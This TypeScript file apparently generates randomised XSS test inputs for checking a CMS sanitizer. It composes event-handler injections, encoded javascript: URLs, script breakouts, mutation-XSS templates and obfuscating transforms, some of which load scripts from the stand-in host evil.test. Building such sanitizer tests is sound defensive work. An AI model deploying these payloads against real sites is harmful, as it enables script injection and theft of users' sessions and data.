import fc from 'fast-check'
import { streamOf } from '../lib/random.ts'

/** A text that an attacker might save in the CMS; it reports its number if it is executed. */
export type Input = { id: number; text: string }

/** Replaced by the number of the text. */
const ID = '#id#'

const words = (list: string) => fc.constantFrom(...list.split(' '))
const join = (...parts: (string | fc.Arbitrary<string>)[]) =>
  fc
    .tuple(...parts.map((part) => (typeof part === 'string' ? fc.constant(part) : part)))
    .map((texts) => texts.join(''))

const code = fc.constantFrom(
  `top.hit(${ID})`,
  `top['hit'](${ID})`,
  `top.hit\`${ID}\``,
  `eval('top.hit(${ID})')`,
  `onerror=top.hit;throw ${ID}`,
  `import('data:text/javascript,top.hit(${ID})')`,
  `\\u0074op.hit(${ID})`,
  `location='javascript:top.hit(${ID})'`,
)

const tag = words(
  'a b p div span img image svg math video audio body input button form select textarea details iframe object embed frameset marquee link meta base style title table td area dialog template slot x-y animate set foreignobject use mglyph mtext annotation-xml portal h1 ol li',
)
const event = words(
  'onerror onload onclick onfocus onblur onmouseover onpointerenter ontoggle onbeforetoggle onanimationstart ontransitionend onbegin onend oncanplay onloadstart onscroll onscrollsnapchange onresize onpageshow onhashchange onfocusin onselect onsubmit oninput oninvalid onpaste onkeydown ondrag onwheel oncontextmenu ontouchstart oncontentvisibilityautostatechange onfuture',
)
const trigger = fc.constantFrom(
  '',
  'autofocus tabindex=1',
  'open',
  'controls autoplay',
  'src=x',
  'href=x',
  'contenteditable',
  'hidden=until-found',
  'popover',
  'attributename=x dur=1s',
  'id=body name=attributes',
)
const separator = fc.constantFrom(' ', '\n', '\t', '\f', '/', ' x ', '\u000b', '/"', " '='")
const quoted = (value: fc.Arbitrary<string>) =>
  fc.oneof(
    value.map((text) => `"${text.replaceAll('"', '&quot;')}"`),
    join("'", value, "'"),
    value,
    join('`', value, '`'),
  )

const address = fc.oneof(
  join(fc.constantFrom('javascript:', 'JaVaScRiPt:', ' \u0001javascript:', 'java\tscript:'), code),
  join(fc.constantFrom('java&Tab;script&colon;', '&#106;avascript&#58;', 'vbscript:'), code),
  fc.constantFrom(
    `data:text/html,<script>top.postMessage(${ID},'*')</script>`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.postMessage(${ID},"*")'/>`,
    `//evil.test/${ID}`,
    `/\\evil.test/${ID}`,
    `https:\\\\evil.test/${ID}`,
  ),
)

const handler = join('<', tag, separator, trigger, separator, event, '=', quoted(code), '>')
const link = fc.oneof(
  join(
    '<',
    tag,
    ' ',
    words('href src xlink:href action formaction data poster srcset srcdoc to'),
    '=',
    quoted(address),
    '>x',
  ),
  join('<svg><a><animate attributeName=href values=', quoted(address), ' /><text y=9>x</text></a>'),
  join('<form action=', quoted(address), '><input type=submit autofocus></form>'),
  join('<meta http-equiv=refresh content="0;url=', address, '">'),
  join('[x](', address, ')'),
)
const image = join('<img src=x onerror="', code, '">')
const script = fc.oneof(
  join('<script>', code, '</script>'),
  join('<scr<script>ipt>', code, '</scr</script>ipt>'),
  join('<svg><script>', code, '</script></svg>'),
  join('<script>self.__next_f.push([1,""])</script><script>', code, '</script>'),
  join('<template shadowrootmode=open><script>', code, '</script></template>'),
  fc.constantFrom(
    `<script src="//evil.test/${ID}.js"></script>`,
    `<script src="data:text/javascript,top.hit(${ID})"></script>`,
    `<style>@import '//evil.test/${ID}.css';</style>`,
    `<p style="background:url(//evil.test/${ID})">x</p>`,
  ),
)
/** Texts that parsers read differently: the image is an attribute for one and an element for another. */
const mutation = fc
  .tuple(
    fc.constantFrom(
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;@">',
      '<form><math><mtext></form><form><mglyph><style></math>@',
      '<svg></p><style><a id="</style>@">',
      '<math></p><style><!--</style>@--></style></math>',
      '<noscript><p title="</noscript>@">',
      '<textarea><a title="</textarea>@">',
      '<title><a title="</title>@"></title>',
      '<xmp><p title="</xmp>@">',
      '<iframe><p title="</iframe>@">',
      '<template><p>@</template>',
      '<select><template><style><!--</style><a rel="--></style></template></select>@">',
      '<svg><foreignobject><p><style><!--</style></p>@--></foreignobject></svg>',
      '<math><annotation-xml encoding="text/html"><style>@</style></annotation-xml></math>',
      '<!-->@-->',
      '<svg><![CDATA[><img src=x>]]>@</svg>',
      `${'<div><svg><p>'.repeat(40)}@`,
    ),
    image,
  )
  .map(([pattern, inner]) => pattern.replace('@', () => inner))
const breakout = join(
  fc.constantFrom(
    '">',
    "'>",
    '</script>',
    '"}]}</script>',
    ']]>',
    '--></style></title></textarea>',
  ),
  fc.oneof(image, script),
)

const attack = fc.oneof(handler, link, script, mutation, breakout)

const change = fc.oneof(
  fc
    .tuple(
      fc.nat(),
      fc.constantFrom('\0', '\t', '/', '<', '"', '\u00ad', '\ufeff', '<!---->', '</p>'),
    )
    .map(([number, inserted]) => (text: string) => {
      const at = number % (text.length + 1)
      return text.slice(0, at) + inserted + text.slice(at)
    }),
  fc.constant((text: string) =>
    text.replaceAll(/<\/?[a-z-]+|\bon[a-z]+/g, (name) => name.toUpperCase()),
  ),
  fc.constant((text: string) => text.replaceAll(/[:(]/g, (each) => `&#${each.codePointAt(0)};`)),
  words('svg math table select p a b form template noscript style title').map(
    (tagName) => (text: string) => `<${tagName}>${text}`,
  ),
)

/** Patterns of the public collections, changed up to three times. */
export function makeInputs(seed: number, count: number): Input[] {
  const next = streamOf(fc.tuple(attack, fc.array(change, { maxLength: 3 })), seed)
  return Array.from({ length: count }, (_, index) => {
    const [text, changes] = next()
    const changed = changes.reduce((result, apply) => apply(result), text)
    return { id: index + 1, text: changed.replaceAll(ID, String(index + 1)) }
  })
}
